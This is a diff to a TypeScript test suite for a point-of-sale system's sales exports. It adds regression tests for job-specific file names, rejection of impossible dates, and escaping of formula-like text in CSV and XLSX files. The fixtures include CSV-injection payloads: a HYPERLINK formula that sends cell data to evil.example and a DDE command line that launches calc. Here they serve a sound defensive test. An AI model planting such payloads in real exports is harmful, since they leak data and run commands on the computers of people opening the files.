@@ -14,6 +14,9 @@ import { seedRefunds, seedSaleId, seedSales, type SeedSale } from './seed-ledger
 const DAY = '2026-03-08';
 const start = Date.parse('2026-03-08T00:00:00+07:00');
 const ROWS = 6_000;
+/** A day whose few sales carry text a spreadsheet would run as a formula. */
+const HOSTILE_DAY = '2026-03-09';
+const HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTab first', '\rCR first', 'Plain tea'];
 let till: TestTill;
 let sales: SeedSale[];
 
@@ -33,6 +36,17 @@ beforeAll(async () => {
   const db = openLedger(path.join(till.dataDir, 'ledger.sqlite3'));
   seedSales(db, sales);
   seedRefunds(db, [{ id: 'rfd_seed0000000001', saleId: sales[0].id, amount: 500, status: 'succeeded', createdAt: start + 60_000 }]);
+  const hostileStart = Date.parse(`${HOSTILE_DAY}T09:00:00+07:00`);
+  seedSales(db, HOSTILE_TEXTS.map((text, i) => ({
+    id: seedSaleId(ROWS + 1 + i),
+    amount: 1_000 + i,
+    status: 'succeeded',
+    createdAt: hostileStart + i * 60_000,
+    cashierId: 'csh_evil000001',
+    cashier: text,
+    description: text,
+    orderRef: text,
+  })));
   db.close();
 });
 afterAll(async () => {
@@ -42,19 +56,21 @@ afterAll(async () => {
 const paid = () => sales.filter((s) => s.status === 'succeeded');
 const bahtTotal = () => paid().reduce((sum, s) => sum + s.amount, 0);
 
-async function exportOnDesktop(format: 'csv' | 'xlsx' | 'pdf'): Promise<{ job: ExportJob; progress: ExportJob[] }> {
+async function exportOnDesktop(format: 'csv' | 'xlsx' | 'pdf', day = DAY, rows = ROWS): Promise<{ job: ExportJob; progress: ExportJob[] }> {
   const progress: ExportJob[] = [];
   const context = await signedInContext(till.core);
   let resolveDone!: (job: ExportJob) => void;
   const done = new Promise<ExportJob>((resolve) => (resolveDone = resolve));
+  let startedId: string | null = null;
   const stop = till.core.subscribe((event: PosEvent) => {
     if (event.type !== 'export.progress') return;
     progress.push(event.data);
-    if (event.data.status !== 'running') resolveDone(event.data);
+    if (event.data.status !== 'running' && event.data.id === startedId) resolveDone(event.data);
   });
   try {
-    const started = await call<ExportJob>(till.core, 'reports.export', { from: DAY, to: DAY, format }, context);
-    expect(started).toMatchObject({ status: 'running', total: ROWS, done: 0 });
+    const started = await call<ExportJob>(till.core, 'reports.export', { from: day, to: day, format }, context);
+    startedId = started.id;
+    expect(started).toMatchObject({ status: 'running', total: rows, done: 0 });
     const job = await done;
     return { job, progress: progress.filter((p) => p.id === started.id) };
   } finally {
@@ -65,7 +81,8 @@ async function exportOnDesktop(format: 'csv' | 'xlsx' | 'pdf'): Promise<{ job: E
 describe('exports', () => {
   it('writes a CSV with a BOM that keeps Thai intact, reports progress and adds up to the ledger', async () => {
     const { job, progress } = await exportOnDesktop('csv');
-    expect(job).toMatchObject({ status: 'done', done: ROWS, total: ROWS, fileName: `chamra-sales-${DAY}.csv`, downloadUrl: null });
+    expect(job).toMatchObject({ status: 'done', done: ROWS, total: ROWS, fileName: `chamra-sales-${DAY}-${job.id}.csv`, downloadUrl: null });
+    expect(path.basename(job.filePath!)).toBe(job.fileName);
     expect(progress.length).toBeGreaterThanOrEqual(2);
     expect(progress.map((p) => p.done)).toEqual([...progress.map((p) => p.done)].sort((a, b) => a - b));
     const bytes = fs.readFileSync(job.filePath!);
@@ -104,6 +121,48 @@ describe('exports', () => {
     expect(first).toContain(`pi_${sales[0].id.slice(5)}`);
     expect(first).toContain('ข้าวผัดกุ้ง');
     expect(document.numPages).toBeGreaterThan(100);
+  });
+
+  it('keeps two desktop exports of the same range as two files, each named with its job id', async () => {
+    // Regression: the second export of a range overwrote the first.
+    const first = (await exportOnDesktop('csv', HOSTILE_DAY, HOSTILE_TEXTS.length)).job;
+    const second = (await exportOnDesktop('csv', HOSTILE_DAY, HOSTILE_TEXTS.length)).job;
+    expect(first.id).not.toBe(second.id);
+    expect(first.filePath).not.toBe(second.filePath);
+    for (const job of [first, second]) {
+      expect(job.fileName).toBe(`chamra-sales-${HOSTILE_DAY}-${job.id}.csv`);
+      expect(path.basename(job.filePath!)).toBe(job.fileName);
+      expect(fs.existsSync(job.filePath!)).toBe(true);
+    }
+  });
+
+  it('writes text that starts like a formula into the CSV behind a single quote, so no spreadsheet runs it', async () => {
+    // Regression (CSV injection): description, order reference and cashier name were written raw.
+    const { job } = await exportOnDesktop('csv', HOSTILE_DAY, HOSTILE_TEXTS.length);
+    const [header, ...rows] = parseCsv(fs.readFileSync(job.filePath!, 'utf8').slice(1));
+    const column = (name: string) => header.indexOf(name);
+    expect(rows).toHaveLength(HOSTILE_TEXTS.length);
+    const expected = HOSTILE_TEXTS.map((text) => (text === 'Plain tea' ? text : `'${text}`));
+    for (const name of ['Description', 'Order reference', 'Cashier']) expect(rows.map((row) => row[column(name)]), name).toEqual(expected);
+    // Numbers stay numbers.
+    expect(rows.map((row) => row[column('Amount (THB)')])).toEqual(HOSTILE_TEXTS.map((_, i) => (10 + i / 100).toFixed(2)));
+    expect(rows.every((row) => row.every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
+  });
+
+  it('keeps the same text in the XLSX as plain strings, exactly as typed, never as formulas', async () => {
+    const { job } = await exportOnDesktop('xlsx', HOSTILE_DAY, HOSTILE_TEXTS.length);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(job.filePath!);
+    const sheet = workbook.getWorksheet('Sales')!;
+    HOSTILE_TEXTS.forEach((text, i) => {
+      for (const column of [7, 8, 9]) {
+        const cell = sheet.getRow(i + 2).getCell(column);
+        expect(cell.type).toBe(ExcelJS.ValueType.String);
+        expect(cell.formula).toBeUndefined();
+        // As typed, with no quote added (XML reads a bare carriage return back as a line feed).
+        expect(cell.value).toBe(text.replace(/\r/g, '\n'));
+      }
+    });
   });
 
   it('refuses an export to a client that is not signed in, writing nothing', async () => {
@@ -170,5 +229,51 @@ describe('GET /reports/daily', () => {
     const bad = await get('date=2026-13-01');
     expect(bad.status).toBe(400);
     expect(await bad.json()).toMatchObject({ error: { code: 'invalid_input', field: 'date' } });
+    // Regression: a day that does not exist was read as the 3rd of March.
+    const impossible = await get('date=2026-02-31');
+    expect(impossible.status).toBe(400);
+    expect(await impossible.json()).toMatchObject({ error: { code: 'invalid_input', field: 'date' } });
+    expect((await get('date=2024-02-29')).status).toBe(200);
+  });
+
+  it('refuses an impossible day in the manager’s report, export and search too', async () => {
+    const context = await signedInContext(till.core);
+    for (const [op, input] of [
+      ['reports.daily', { date: '2026-02-31' }],
+      ['reports.export', { from: '2026-02-30', to: '2026-03-01', format: 'csv' }],
+      ['sales.search', { from: '2026-04-31', to: '2026-04-31' }],
+    ] as const) {
+      expect(await till.core.dispatch(op, input, context), op).toMatchObject({ ok: false, error: { code: 'invalid_input', message: expect.stringMatching(/no such day/) } });
+    }
   });
 });
+
+/** RFC 4180 as csv-stringify writes it: quoted fields may hold commas, quotes ("") and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (ch === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += ch;
+  }
+  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
+  return rows;
+}
